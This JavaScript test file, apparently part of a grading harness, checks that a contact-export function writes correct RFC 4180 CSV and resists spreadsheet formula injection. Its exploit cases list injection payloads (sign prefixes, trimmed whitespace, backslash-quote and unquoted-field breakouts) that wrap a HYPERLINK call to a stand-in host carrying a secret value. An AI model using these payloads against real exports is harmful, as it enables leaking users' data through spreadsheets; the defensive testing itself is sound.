/** What a spreadsheet makes of a CSV file (RFC 4180): rows of cells. */
function parse(text) {
  const rows = [];
  let row = [];
  let at = text.startsWith('\ufeff') ? 1 : 0;
  while (at < text.length) {
    let cell = '';
    if (text[at] === '"') {
      for (at += 1; text[at] !== '"' || text[at + 1] === '"'; at += 1) {
        if (at >= text.length) break;
        if (text[at] === '"') at += 1;
        cell += text[at];
      }
      at += 1;
    }
    const plain = /[^,\r\n]*/y;
    plain.lastIndex = at;
    cell += plain.exec(text)[0];
    at = plain.lastIndex;
    row.push(cell);
    if (text[at] === ',') {
      at += 1;
      if (at < text.length) continue;
      row.push('');
    }
    at += text.startsWith('\r\n', at) ? 2 : 1;
    rows.push(row);
    row = [];
  }
  return rows;
}

const header = ['Name', 'E-mail', 'Company', 'Note', 'Balance'];

export default function checks(t) {
  const contact = (changes) => ({
    name: 'Ada',
    email: 'ada@mail.example',
    company: 'Engines Ltd',
    note: 'hello',
    balance: 0.5,
    ...changes,
  });
  const cells = ({ name, email, company, note, balance }) => [
    name,
    email,
    company,
    note,
    balance.toFixed(2),
  ];

  const exported = async (contacts) => {
    const p = await t.start();
    const csv = await p.call('export_contacts', contacts);
    t.ok(typeof csv === 'string', 'the result must be a string in UTF-8');
    return csv;
  };

  const holds = async (contacts) => {
    const csv = await exported(contacts);
    t.ok(csv.endsWith('\r\n'), 'every line ends with \\r\\n');
    t.equal(parse(csv), [header, ...contacts.map(cells)]);
  };

  t.functional('a header and a line for each contact', async () => {
    await holds([]);
    await holds([
      contact({}),
      contact({ name: 'Zoë Käse', company: '', note: '', balance: 1234.5 }),
    ]);
  });

  t.functional('commas, quotes and line breaks stay in their field', () =>
    holds([
      contact({ name: 'Hopper, Grace "Amazing"', company: '"', note: 'one\ntwo, three\r\n"four"' }),
      contact({ note: '""quoted"", again', company: 'a,b' }),
    ]),
  );

  t.functional('balances are numbers with two digits', () =>
    holds([
      contact({ balance: -3.25 }),
      contact({ balance: 1000000.25 }),
      contact({ balance: -0.75 }),
      contact({ balance: 12 }),
    ]),
  );

  t.functional('backslashes are characters like any other', () =>
    holds([contact({ name: 'C:\\Temp\\', company: 'a\\b', note: 'ends with \\' })]),
  );

  t.control('signs within texts are kept', () =>
    holds([
      contact({
        name: 'Anna-Lena O’Hara + Bob',
        email: 'a+b=c@mail.example',
        company: 'Me & You = us',
        note: '1 + 1 = 2, see "@work" - or not\n(call 030/1234-5)',
        balance: -17.5,
      }),
    ]),
  );

  /** Whether a spreadsheet evaluates a cell: by its first character. */
  const isFormula = (cell) => /^[=+\-@]/.test(cell);

  /** Each attack is a text that a contact types; the effect is that a cell with it is evaluated. */
  const attack = async (texts, fields = ['name', 'email', 'company', 'note']) => {
    for (const write of texts) {
      for (const field of fields) {
        const mark = t.secret();
        const typed = write(`HYPERLINK("http://m.example/${mark}","x")`);
        const { value } = await t.attempt(exported([contact({}), contact({ [field]: typed })]));
        const cell = parse(String(value ?? ''))
          .flat()
          .find((text) => text.includes(mark) && isFormula(text));
        if (cell !== undefined) {
          return `${field} ${JSON.stringify(typed)} becomes the formula ${JSON.stringify(cell)}`;
        }
      }
    }
    return null;
  };

  t.exploit('a text that is a formula', () =>
    attack([(call) => `=${call}`, (call) => `=1+${call}&"a"`]),
  );

  // Beats looking for "=" only.
  t.exploit('a formula that begins with another sign', () =>
    attack([
      (call) => `+${call}`,
      (call) => `-${call}`,
      (call) => `@${call}`,
      (call) => `-1+${call}`,
      (call) => `+1e5*${call}`,
      (call) => `--${call}`,
    ]),
  );

  // Beats a pattern whose dot stops at the end of a line.
  t.exploit('a formula of several lines', () =>
    attack([
      (call) => `=${call}\nx`,
      (call) => `+${call}\r\nx`,
      (call) => `-1+${call}\n`,
      (call) => `@${call}\nx`,
    ]),
  );

  // Beats looking at the first character of what was typed, and trimming it afterwards.
  t.exploit('a formula behind white space that is trimmed', () =>
    attack([
      (call) => ` =${call}`,
      (call) => `\t=${call}`,
      (call) => `\n=${call}`,
      (call) => `\r\n+${call}`,
      (call) => `\0=${call}`,
      (call) => ` \t @${call}`,
    ]),
  );

  // Beats `fputcsv` as it is: behind a backslash it does not double a quote, and what follows is a
  // field of its own for everybody else.
  t.exploit('a field that ends behind a backslash', () =>
    attack([
      (call) => `x\\","=${call}`,
      (call) => `x \\",=${call}`,
      (call) => `\\"\r\n=${call}`,
      (call) => `\\","",+${call}`,
      (call) => `"\\","=${call}`,
    ]),
  );

  // Beats quotes that are not doubled, and fields that are written without quotes.
  t.exploit('a field that ends at a quote, a comma or a line break', () =>
    attack([
      (call) => `x,=${call}`,
      (call) => `x","=${call}`,
      (call) => `x"\r\n"=${call}`,
      (call) => `x\r\n=${call}`,
      (call) => `x\n=${call}`,
      (call) => `x\r=${call}`,
      (call) => `","=${call}`,
      (call) => `"=${call}`,
      (call) => `""=${call}`,
    ]),
  );
}
